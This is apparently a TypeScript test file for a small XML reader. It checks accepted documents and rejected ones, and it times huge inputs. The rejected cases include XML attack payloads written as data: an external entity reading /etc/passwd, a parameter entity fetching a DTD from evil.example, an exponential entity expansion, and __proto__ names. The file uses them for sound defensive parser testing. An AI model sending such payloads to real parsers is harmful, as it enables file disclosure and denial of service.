import { expect } from 'chai';
import { readXml, type XmlElements } from '../../../core/kit/read-xml.ts';

const nested = (depth: number) => `${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}`;

const READ: Readonly<Record<string, readonly [xml: string, read: XmlElements]>> = {
  'a text': ['<a>b</a>', { a: 'b' }],
  'white space around it': ['\ufeff<?xml version="1.0" encoding="UTF-8"?>\n<a>\n  b c\t</a>\n', { a: 'b c' }],
  'children by name': ['<a><b>1</b> <c>2</c></a>', { a: { b: '1', c: '2' } }],
  'several of a name, in order': ['<a><b>1</b><c/><b>2</b></a>', { a: { b: ['1', '2'], c: '' } }],
  'attributes, which are left out': [`<a x="1 > 0" y='"'><b z = "2" /></a>`, { a: { b: '' } }],
  'comments and instructions': ['<!-- <b> --><a><?x y?>1<!-- - -->2</a><!---->', { a: '12' }],
  'literal text': ['<a><![CDATA[<b>&amp;]]]]></a>', { a: '<b>&amp;]]' }],
  'the predefined entities': ['<a>&lt;&gt;&amp;&apos;&quot;&#65;&#x1F600;</a>', { a: '<>&\'"A😀' }],
  'an escaped reference, once': ['<a>&amp;lt;</a>', { a: '&lt;' }],
  'names of other alphabets': ['<n:größe-1>1</n:größe-1>', { 'n:größe-1': '1' }],
  'depth up to sixteen': [nested(2), { a: { a: 'x' } }],
};

const REFUSED: Readonly<Record<string, string>> = {
  nothing: '',
  'a text alone': 'a',
  JSON: '{"a":1}',
  'an element that does not end': '<a>',
  'an element that ends twice': '<a></a></a>',
  'elements that overlap': '<a><b></a></b>',
  'another end': '<a></b>',
  'two roots': '<a/><b/>',
  'two roots of a name': '<a/><a/>',
  'text beside the root': '<a/>b',
  'a tag that does not end': '<a><b',
  'an attribute without quotes': '<a b=c/>',
  'an attribute with markup': '<a b="<"/>',
  'a bare ampersand': '<a>b & c</a>',
  'a name that is none': '<1/>',
  'a comment with two hyphens': '<!-- a -- b --><a/>',
  'an unknown entity': '<a>&nbsp;</a>',
  'an inherited name as an entity': '<a>&constructor;</a>',
  'a character that XML does not have': '<a>\u0000</a>',
  'a reference to one': '<a>&#0;</a>',
  'a reference beyond Unicode': '<a>&#x110000;</a>',
  'a lone surrogate': '<a>&#xD800;</a>',
  'a document type': '<!DOCTYPE a><a/>',
  'an entity of its own': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
  'entities that multiply':
    '<!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c "&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;">]><a>&d;&d;&d;&d;</a>',
  'an entity outside': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  'a parameter entity': '<!DOCTYPE a [<!ENTITY % b SYSTEM "https://evil.example/b.dtd"> %b;]><a/>',
  'a document type in the root': '<a><!DOCTYPE a><b/></a>',
  'depth beyond sixteen': nested(17),
};

describe('readXml', () => {
  for (const [what, [xml, read]] of Object.entries(READ)) {
    it(`reads ${what}`, () => expect(readXml(xml)).to.deep.equal(read));
  }

  for (const [what, xml] of Object.entries(REFUSED)) {
    it(`refuses ${what}`, () => expect(readXml(xml)).to.equal(undefined));
  }

  it('reads depth up to its limit', () => expect(JSON.stringify(readXml(nested(16)))).to.include('"x"'));

  it('creates own properties for names of the prototype', () => {
    const read = readXml('<__proto__><constructor>1</constructor><__proto__><toString/></__proto__></__proto__>') ?? {};
    expect(Object.getPrototypeOf(read)).to.equal(Object.prototype);
    expect(JSON.stringify(read)).to.equal('{"__proto__":{"constructor":"1","__proto__":{"toString":""}}}');
    expect({}).to.not.have.property('toString', '');
  });

  const MIB = 1_048_576;
  const HUGE: Readonly<Record<string, string>> = {
    'open tags': '<a>'.repeat(MIB / 3),
    'empty elements': `<a>${'<b/>'.repeat(MIB / 4)}</a>`,
    'half an open tag': `<a ${'b="c" '.repeat(MIB / 6)}`,
    'spaces in a tag': `<a${' '.repeat(MIB)}b`,
    'comments that do not end': '<!--'.repeat(MIB / 4),
    references: `<a>${'&amp;'.repeat(MIB / 5)}</a>`,
    ampersands: `<a>${'&'.repeat(MIB)}</a>`,
    'one name': `<${'a'.repeat(MIB)}`,
  };
  for (const [what, xml] of Object.entries(HUGE)) {
    it(`ends soon for a mebibyte of ${what}`, () => {
      const startedAt = performance.now();
      readXml(xml);
      expect(performance.now() - startedAt).to.be.below(5_000);
    });
  }
});
